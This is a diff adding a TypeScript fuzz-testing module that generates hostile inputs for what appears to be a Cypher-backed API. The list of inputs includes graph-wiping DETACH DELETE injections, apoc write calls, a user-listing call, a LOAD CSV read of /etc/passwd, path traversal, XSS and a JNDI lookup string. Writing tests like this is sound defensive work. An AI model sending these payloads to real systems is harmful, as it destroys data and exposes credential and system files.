@@ -1,0 +1,104 @@
+/**
+ * Hostile strings for fuzzing: Cypher and other injection attempts, awkward Unicode, and
+ * generators for strings past the service's size limits.
+ */
+import fc from 'fast-check';
+
+/** Text that would change a query if anything spliced input into Cypher (it must not). */
+export const INJECTIONS = [
+  "' OR 1=1 //",
+  '") MATCH (n) DETACH DELETE n //',
+  "x'}) DETACH DELETE n RETURN 1 //",
+  "'; CALL apoc.cypher.runWrite('MATCH (n) DETACH DELETE n', {}) //",
+  'MATCH (n) SET n.id = "pwned" RETURN n',
+  '$rows',
+  '`n`',
+  '{id: $id}',
+  'CALL dbms.security.listUsers()',
+  'LOAD CSV FROM "file:///etc/passwd" AS line RETURN line',
+  '<script>alert(1)</script>',
+  '../../../../etc/passwd',
+  '${jndi:ldap://example.invalid/a}',
+  '%00%27',
+  '\\u0027 OR \\u0027\\u0027=\\u0027',
+] as const;
+
+/** Unicode that trips naive code: NUL, lone surrogates, bidi overrides, zero-width, combining marks, astral. */
+export const AWKWARD_UNICODE = [
+  '\u0000',
+  'a\u0000b',
+  '\uD800',
+  '\uDFFF\uD800',
+  '\u202Eevil\u202C',
+  '\u200B\u200C\u200D\uFEFF',
+  'e\u0301\u0301\u0301\u0301',
+  '𝕳𝖊𝖑𝖑𝖔 🧬🦠💉',
+  'ｐａｔｉｅｎｔ－０００１',
+  '患者-０１２３',
+  'مريض',
+  '\u000b\u000c\r\n\t',
+  '\u2028\u2029',
+] as const;
+
+/** Any string a client might send that is still acceptable free text (never empty). */
+export const nastyText: fc.Arbitrary<string> = fc.oneof(
+  fc.constantFrom(...INJECTIONS),
+  fc.constantFrom(...AWKWARD_UNICODE),
+  fc.string({ unit: 'binary', minLength: 1, maxLength: 40 }),
+  fc.string({ unit: 'grapheme', minLength: 1, maxLength: 40 }),
+);
+
+/** Strings that can never be an id (the id grammar is `[A-Za-z0-9][A-Za-z0-9._:/@+=-]*`, at most 256). */
+export const invalidId: fc.Arbitrary<string> = fc.oneof(
+  fc.constant(''),
+  fc.constantFrom(...INJECTIONS),
+  fc.constantFrom(...AWKWARD_UNICODE),
+  fc.constantFrom(' leading-space', 'trailing-space ', 'in side', '-starts-with-dash', '.dot', 'a\nb', 'ä-umlaut', 'x;y', 'x"y', "x'y"),
+  fc.integer({ min: 257, max: 4_000 }).map((n) => 'a'.repeat(n)),
+);
+
+/** A string of `min` to `max` characters, built cheaply (huge random strings would cost the generator most of the run). */
+export function longString(min: number, max: number): fc.Arbitrary<string> {
+  return fc.tuple(fc.integer({ min, max }), fc.constantFrom('x', 'é', '🧬', 'ab', "'")).map(([length, unit]) => unit.repeat(Math.ceil(length / unit.length)).slice(0, Math.max(length, min)));
+}
+
+/** JSON text to splice into a request body as is: nesting too deep for the client's own JSON.stringify. */
+export class RawJson {
+  constructor(readonly text: string) {}
+}
+
+/** `{ "a": { "a": ... } }` (or arrays) nested `depth` levels deep, as raw JSON text. */
+export function nested(depth: number, useArrays: boolean): RawJson {
+  const [open, close] = useArrays ? ['[', ']'] : ['{"a":', '}'];
+  return new RawJson(`{"a":${open.repeat(depth - 1)}1${close.repeat(depth - 1)}}`);
+}
+
+/** JSON.stringify that splices RawJson values in as their text. */
+export function toJson(value: unknown): string {
+  const raws: string[] = [];
+  const text = JSON.stringify(value, (_key, v: unknown) => (v instanceof RawJson ? `\u0000raw${raws.push(v.text) - 1}\u0000` : v));
+  return text.replace(/"\\u0000raw(\d+)\\u0000"/g, (_whole, i: string) => raws[Number(i)]!);
+}
+
+/** Date-times the API must refuse: wrong shape, impossible dates, local times, other calendars' digits. */
+export const invalidDateTime: fc.Arbitrary<unknown> = fc.oneof(
+  fc.constantFrom(
+    '',
+    'yesterday',
+    'now',
+    '2026-03-04',
+    '2026-03-04 10:00:00',
+    '2026-03-04T10:00:00',
+    '2026-13-45T10:00:00Z',
+    '2026-02-30T25:61:61Z',
+    '２０２６-０３-０４T10:00:00Z',
+    '2026-03-04T10:00:00.1234567890Z',
+    '+002026-03-04T10:00:00Z',
+    'T10:00:00Z',
+    "2026-03-04T10:00:00Z' OR 1=1 //",
+  ),
+  fc.integer(),
+  fc.boolean(),
+  fc.constant({ $date: '2026-03-04T10:00:00Z' }),
+  fc.string({ unit: 'grapheme', maxLength: 30 }).filter((s) => Number.isNaN(Date.parse(s)) || !/T/.test(s)),
+);
